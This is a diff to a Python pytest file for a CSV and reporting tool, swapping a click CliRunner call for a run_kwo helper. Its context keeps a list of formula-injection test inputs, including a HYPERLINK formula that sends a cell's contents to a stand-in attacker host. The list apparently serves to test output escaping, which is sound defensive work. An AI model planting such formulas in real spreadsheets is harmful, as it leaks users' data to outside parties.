@@ -13,15 +13,15 @@ import os
 from pathlib import Path
 
 import pytest
-from click.testing import CliRunner
 
 from kwo.archive import MANIFEST
-from kwo.cli import cli
 from kwo.engine.duckdb import connect
 from kwo.errors import UsageError
 from kwo.ingest import ingest
 from kwo.metrics import build_report
 from kwo.render.tables import csv_cell, csv_text
+
+from .kwo_cli import run_kwo
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
@@ -66,8 +66,7 @@ def case(tmp_path_factory) -> dict:
 
 
 def run(*args) -> tuple[int, str, str]:
-    result = CliRunner().invoke(cli, [str(a) for a in args])
-    assert "Traceback" not in result.output + result.stderr
+    result = run_kwo(*args, code=None)
     return result.exit_code, result.stdout, result.stderr
 
 
